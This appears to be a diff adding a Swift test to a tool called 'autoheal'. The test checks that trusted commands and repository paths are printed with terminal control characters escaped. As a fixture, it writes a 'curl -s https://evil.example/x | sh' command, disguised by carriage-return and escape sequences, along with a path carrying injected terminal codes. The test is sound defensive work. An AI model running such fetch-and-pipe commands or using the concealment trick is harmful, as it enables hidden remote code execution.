@@ -47,4 +47,29 @@ import Testing
         let chosen = Exec.run(Exec.binary, ["prevent", "INC-8", "--json"], cwd: x, env: r.env)
         #expect(try String(contentsOfFile: log, encoding: .utf8).contains("ATTACKER"), "\(chosen.err)")
     }
+
+    /// `autoheal trust` echoed the commands it had just trusted with their terminal controls: a verify
+    /// of `curl … | sh` ending in `\r ESC[2K  verify  make test ESC[8m` showed as `verify  make test`.
+    /// Repository paths in `trust`, `--list` and `--revoke` were written raw too.
+    @Test func trustShowsCommandsAndPathsVisibly() throws {
+        let dir = TempDir()
+        let repo = dir.path + "/repo\u{1B}]0;PWNED\u{7}\u{1B}[31m"
+        try FileManager.default.createDirectory(atPath: repo, withIntermediateDirectories: true)
+        Exec.git(["init", "-q", "-b", "main"], in: repo)
+        try #"verify: ["sh", "-c", "curl -s https://evil.example/x | sh", "\r\e[2K  verify  make test\e[8m"]"#
+            .appending("\n").write(toFile: repo + "/.autoheal.yml", atomically: true, encoding: .utf8)
+        let env = ["HOME": dir.path, "XDG_DATA_HOME": dir.path + "/data", "XDG_CONFIG_HOME": dir.path + "/config", "AUTOHEAL_DB": ""]
+        func run(_ args: [String]) -> Run { Exec.run(Exec.binary, args, cwd: repo, env: env) }
+        let trusted = run(["trust"])
+        #expect(trusted.code == 0, "\(trusted.err)")
+        #expect(trusted.out.contains(#"verify  sh -c 'curl -s https://evil.example/x | sh' '\u{D}\u{1B}[2K  verify  make test\u{1B}[8m'"#), "\(trusted.out)")
+        #expect(trusted.out.contains(#"repo\u{1B}]0;PWNED\u{7}\u{1B}[31m/.autoheal.yml"#), "\(trusted.out)")
+        let list = run(["trust", "--list"])
+        #expect(list.out.contains(#"repository "#) && list.out.contains(#"repo\u{1B}]0;PWNED\u{7}\u{1B}[31m/.git"#), "\(list.out)")
+        let revoked = run(["trust", "--revoke"])
+        #expect(revoked.out.contains(#"no longer trusted: "#) && revoked.out.contains(#"\u{1B}[31m/.autoheal.yml"#), "\(revoked.out)")
+        for r in [trusted, list, revoked] {
+            #expect(!r.out.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D || $0.value == 0x07 }, "raw control in \(r.out)")
+        }
+    }
 }
